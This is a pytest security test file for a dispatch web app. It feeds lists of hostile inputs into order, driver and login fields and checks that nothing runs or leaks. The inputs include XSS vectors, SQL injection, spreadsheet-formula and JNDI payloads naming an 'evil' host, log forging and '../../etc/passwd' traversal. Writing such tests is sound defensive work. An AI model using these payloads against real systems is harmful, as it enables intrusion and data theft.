"""T10 to T12: hostile texts through every field that takes one, seen by a real browser, and in files and logs."""

import csv
import io
import json
import shutil
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from playwright.async_api import Page, async_playwright

from tests.attacks.product import HOME, HOME_MALL, PASSWORD, Product, hear, order_body, ping, report
from tests.browser.conftest import CHROMIUM

SCRIPTS = (
    "<script>window.fired=1</script>", "<img src=x onerror=window.fired=1>", "<svg onload=window.fired=1>",
    '"><img src=x onerror=window.fired=1>', "' onmouseover=window.fired=1 x='", "javascript:window.fired=1",
    "[x](javascript:window.fired=1)", "</script><script>window.fired=1</script>",
    "{{constructor.constructor('window.fired=1')()}}", '<a href="javascript:window.fired=1">x</a>',
    "<iframe srcdoc='<script>parent.fired=1</script>'>", "<b onclick=window.fired=1>x</b>",
    "&lt;script&gt;window.fired=1&lt;/script&gt;", "\u202e<script>window.fired=1</script>",
    "<math><mtext><img src=x onerror=window.fired=1>", "`${window.fired=1}`",
    "%3Cscript%3Ewindow.fired=1%3C/script%3E",
)  # fmt: skip
"""What would set `window.fired` if any of it were taken for more than text."""
INJECTIONS = (
    "'; DROP TABLE entry; --", "1 OR 1=1", '" OR ""="', '=HYPERLINK("http://evil")', "=cmd|' /C calc'!A0", "+1",
    "-1+1", "@SUM(1)", "a\r\n2026-11-25 [info] forged", "a\x00b", "\x1b[31mred", "%s%n", "${jndi:ldap://evil}",
    "../../etc/passwd",
)  # fmt: skip
TEXTS = (*SCRIPTS, *INJECTIONS)


def hostile_orders() -> Iterator[dict[str, Any]]:
    """An order for each text, with the text in every field that takes one."""
    for number, text in enumerate(TEXTS):
        dropoff = {"name": text, "address": text, "notes": text, "phone": text[:32]}
        yield order_body(external_id=f"{number}{text}"[:128], dropoff=dropoff)


@pytest.fixture(scope="module")
def poisoned(product: Product) -> list[str]:
    """The floor with every text in every field; gives the ids of the orders."""
    placed = []
    with product.client("dina") as rest:
        for order in hostile_orders():
            answer = rest.post("/api/v1/orders", json=order)
            assert answer.status_code in {201, 422}, answer.text
            if answer.status_code == 201:
                placed.append(answer.json()["id"])
        for order_id, text in zip(placed, TEXTS, strict=False):
            change = {"expected_version": product.order(order_id)["version"], "reason": text}
            assert rest.post(f"/api/v1/orders/{order_id}/hold", json=change).status_code < 500
    for number, text in enumerate(TEXTS[:8]):
        product.accounts.register_driver(f"x-{number}", text, mall_ids=(HOME_MALL,))
        product.tokens[f"x-{number}"] = product.accounts.mint_driver_token(f"x-{number}", 0)
    return placed


async def look_everywhere(page: Page, url: str) -> str:
    """Opens the floor, every tab, and order after order in the inspector; gives all text that was to be seen."""
    await page.goto(f"{url}/login")
    await page.fill("#name", "olga")
    await page.fill("#password", PASSWORD)
    await page.click("button")
    await page.wait_for_function("() => window.mallard?.model?.orders?.size > 5", timeout=40_000)
    seen = []
    for tab in await page.evaluate("() => [...document.querySelectorAll('[data-tab]')].map(e => e.dataset.tab)"):
        await page.evaluate('tab => document.querySelector(`[data-tab="${tab}"]`).click()', tab)
        await page.wait_for_timeout(300)
        rows = "() => [...document.querySelectorAll('#queue-box .ag-row')].map(row => row.getAttribute('row-id'))"
        for row_id in (await page.evaluate(rows))[:10]:
            # The grid draws its rows anew all the time, so the click must not wait for one to stand still.
            await page.evaluate(
                'id => document.querySelector(`#queue-box .ag-row[row-id="${id}"] .ag-cell`)?.click()', row_id
            )
            await page.wait_for_timeout(250)
            seen.append(await page.evaluate("() => document.body.innerText"))
    return "\n".join(seen)


async def test_t10_no_stored_text_ever_runs(product: Product, poisoned: list[str]) -> None:
    path = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    assert path, "this needs Chromium: install the package `chromium`"
    for number in range(8):
        async with product.phone(f"x-{number}") as phone:
            await phone.send(json.dumps(report("on_duty", f"t10-{number}")))
            await hear(phone, "ack")
            await phone.send(json.dumps(ping(1, (HOME[0] + number * 0.001, HOME[1]))))
            await hear(phone, "ack")
    dialogs, faults, strangers = [], [], []
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=path, args=list(CHROMIUM))
        page = await (await browser.new_context()).new_page()
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        page.on("console", lambda said: faults.append(said.text) if "Content Security Policy" in said.text else None)
        page.on("request", lambda sent: strangers.append(sent.url) if "evil" in sent.url.partition("?")[0] else None)
        shown = await look_everywhere(page, product.url)
        fired = await page.evaluate("() => window.fired ?? null")
        handlers = "[onerror],[onload],[onmouseover],[onclick],a[href^=javascript],iframe[srcdoc]"
        elements = await page.evaluate("which => document.querySelectorAll(which).length", handlers)
        await page.goto(f"{product.url}/login?next={quote(SCRIPTS[0])}")
        assert await page.evaluate("() => window.fired ?? null") is None
        await browser.close()
    assert fired is None
    assert elements == 0
    assert (dialogs, faults, strangers) == ([], [], [])
    assert any(text in shown for text in SCRIPTS), "the texts were on the screen, as text"


def test_t11_texts_reach_the_database_and_the_log_as_texts(product: Product, poisoned: list[str]) -> None:
    seq, lines = product.seq(), len(product.log().splitlines())
    with product.client("olga") as rest, product.client() as stranger:
        for text in TEXTS:
            for path in ("/api/v1/orders", "/api/v1/drivers"):
                for name in ("q", "cursor", "mall_id", "driver_id", "status"):
                    answer = rest.get(path, params={name: text})
                    assert answer.status_code < 500, (path, name, text)
            for path in (f"/api/v1/orders/{quote(text, safe='')}", f"/api/v1/drivers/{quote(text, safe='')}"):
                assert rest.get(path).status_code in {401, 404, 405, 422}, (path, text)
        for text in TEXTS[:12]:
            headers = {"Origin": product.url}
            assert stranger.post("/login", data={"name": text, "password": text}, headers=headers).status_code in {
                401,
                429,
            }
        kept = rest.get("/api/v1/orders", params={"limit": 500}).json()["items"]
    assert {order["id"] for order in kept} >= set(poisoned), "no table was dropped"
    assert product.seq() >= seq
    for line in product.log().splitlines()[lines:]:
        assert "forged" not in line or line.lstrip().startswith("{"), line
        assert "\x1b" not in line


def test_t11_a_table_goes_in_as_it_was_and_none_comes_out_to_run(product: Product) -> None:
    """Orders come as CSV; nothing is given out as CSV, so no cell is ever a formula of ours."""
    rows = io.StringIO()
    writer = csv.writer(rows)
    writer.writerow(["external_id", "mall_id", "stores", "lat", "lng", "name", "placed_ms", "due_ms"])
    order = order_body()
    for number, text in enumerate(INJECTIONS):
        place = (order["dropoff"]["lat"], order["dropoff"]["lng"])
        writer.writerow([f"csv-{number}", HOME_MALL, "fs-macys", *place, text, order["placed_ms"], order["due_ms"]])
    headers = {"Content-Type": "text/csv"}
    with product.client("dina") as rest:
        answer = rest.post("/api/v1/orders/import", content=rows.getvalue().encode(), headers=headers)
        assert answer.status_code < 500
        paths = rest.get("/api/v1/openapi.json").json()["paths"]
    kinds = {
        kind for path in paths.values() for call in path.values()
        for answer in call["responses"].values() for kind in answer.get("content", {})
    }  # fmt: skip
    assert "text/csv" not in kinds


@pytest.mark.parametrize(
    "bad", ["../x", "..%2fx", "/etc/passwd", "a\x00b", "a b", "x" * 65, "é", "\uff0e\uff0e/x", "", "."]
)
def test_t12_no_id_leads_to_a_file(product: Product, bad: str) -> None:
    before = {path.name for path in product.data.iterdir()}
    with product.client("olga") as rest:
        for path in (
            "/api/v1/orders/{}",
            "/api/v1/orders/{}/history",
            "/api/v1/drivers/{}",
            "/api/v1/drivers/{}/track",
        ):
            answer = rest.get(path.format(quote(bad, safe="")))
            assert answer.status_code in {200, 404, 405, 422}, (path, answer.text)
            assert answer.status_code != 200 or bad in {"", "."}, (path, answer.text[:200])
        for field in ("mall_id", "external_id"):
            assert rest.post("/api/v1/orders", json={**order_body(), field: bad}).status_code in {201, 404, 422}
        duty = rest.post(f"/api/v1/drivers/{quote(bad, safe='')}/on-duty", json={})
        assert duty.status_code in {404, 405, 422}
        for asset in ("/assets/", "/_dash-component-suites/dash/"):
            assert rest.get(asset + quote(f"../../../{bad}", safe="")).status_code in {400, 404}
    assert {path.name for path in product.data.iterdir()} == before
